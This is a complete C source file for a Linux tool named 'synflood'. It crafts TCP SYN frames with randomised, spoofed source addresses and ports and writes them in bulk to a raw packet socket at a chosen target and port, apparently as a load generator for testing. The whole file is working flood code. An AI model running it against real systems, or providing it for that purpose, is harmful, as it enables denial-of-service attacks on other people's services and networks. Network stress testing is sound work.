// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* synflood DEVICE COUNT SOURCE_MAC TARGET_MAC SOURCE TARGET PORT SEED: SYNs from random addresses and ports, written
 * to a packet socket as fast as it takes them. SOURCE is a network: of IPv4 the last 16 bits vary, of IPv6 64. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#define BATCH 64

static uint64_t seed;

static uint64_t rnd(void) /* xorshift64* */
{
	seed ^= seed >> 12;
	seed ^= seed << 25;
	seed ^= seed >> 27;
	return seed * 0x2545f4914f6cdd1dULL;
}

static uint32_t add(uint32_t sum, const uint8_t *p, int n)
{
	for (int i = 0; i < n; i += 2)
		sum += p[i] << 8 | p[i + 1];
	return sum;
}

static void put16(uint8_t *p, uint32_t v)
{
	p[0] = v >> 8;
	p[1] = v;
}

static void put_sum(uint8_t *at, uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	put16(at, ~sum);
}

static int template(uint8_t *f, const char *smac, const char *dmac, const char *src, const char *dst, int port)
{
	int v6 = !!strchr(dst, ':'), at = 14 + (v6 ? 40 : 20);
	struct ether_addr *mac;

	if (!(mac = ether_aton(dmac)))
		errx(2, "bad MAC address %s", dmac);
	memcpy(f, mac, 6);
	if (!(mac = ether_aton(smac)))
		errx(2, "bad MAC address %s", smac);
	memcpy(f + 6, mac, 6);
	put16(f + 12, v6 ? 0x86dd : 0x0800);
	if (v6) {
		memcpy(f + 14, "\x60\0\0\0\0\x18\x06\x40", 8);
	} else {
		memcpy(f + 14, "\x45\0\0\x2c\0\0\x40\0\x40\x06\0\0", 12);
	}
	if (inet_pton(v6 ? AF_INET6 : AF_INET, src, f + (v6 ? 22 : 26)) != 1)
		errx(2, "bad address %s", src);
	if (inet_pton(v6 ? AF_INET6 : AF_INET, dst, f + (v6 ? 38 : 30)) != 1)
		errx(2, "bad address %s", dst);
	put16(f + at + 2, port);
	memcpy(f + at + 12, "\x60\x02\xfa\xf0\0\0\0\0\x02\x04\x05\xb4", 12);
	return at;
}

static void vary(uint8_t *f, int at)
{
	int v6 = at == 54;
	uint64_t a = rnd(), b = rnd();

	memcpy(v6 ? f + 30 : f + 28, &a, v6 ? 8 : 2);
	put16(f + at, 1024 + b % 64000);
	b = rnd();
	memcpy(f + at + 4, &b, 4);
	put16(f + at + 16, 0);
	put_sum(f + at + 16, add(6 + 24, v6 ? f + 22 : f + 26, (v6 ? 32 : 8) + 24));
	if (!v6) {
		put16(f + 24, 0);
		put_sum(f + 24, add(0, f + 14, 20));
	}
}

int main(int argc, char **argv)
{
	static uint8_t frame[BATCH][128];
	static struct iovec iov[BATCH];
	static struct mmsghdr msg[BATCH];
	struct sockaddr_ll to = {.sll_family = AF_PACKET};
	long left, sent = 0;
	int fd, at = 0;

	if (argc != 9)
		errx(2, "usage: synflood DEVICE COUNT SOURCE_MAC TARGET_MAC SOURCE TARGET PORT SEED");
	seed = strtoull(argv[8], NULL, 0) | 1;
	fd = socket(AF_PACKET, SOCK_RAW, 0);
	to.sll_ifindex = if_nametoindex(argv[1]);
	if (fd < 0 || !to.sll_ifindex || bind(fd, (struct sockaddr *)&to, sizeof(to)))
		err(1, "%s", argv[1]);
	for (int i = 0; i < BATCH; i++) {
		at = template(frame[i], argv[3], argv[4], argv[5], argv[6], atoi(argv[7]));
		iov[i] = (struct iovec){frame[i], at + 24};
		msg[i].msg_hdr = (struct msghdr){.msg_iov = &iov[i], .msg_iovlen = 1};
	}
	for (left = atol(argv[2]); left > 0;) {
		int n = left < BATCH ? left : BATCH;
		for (int i = 0; i < n; i++)
			vary(frame[i], at);
		n = sendmmsg(fd, msg, n, 0);
		if (n < 0 && errno != ENOBUFS && errno != EAGAIN)
			err(1, "sendmmsg");
		if (n > 0)
			sent += n, left -= n;
	}
	printf("%ld\n", sent);
	return 0;
}
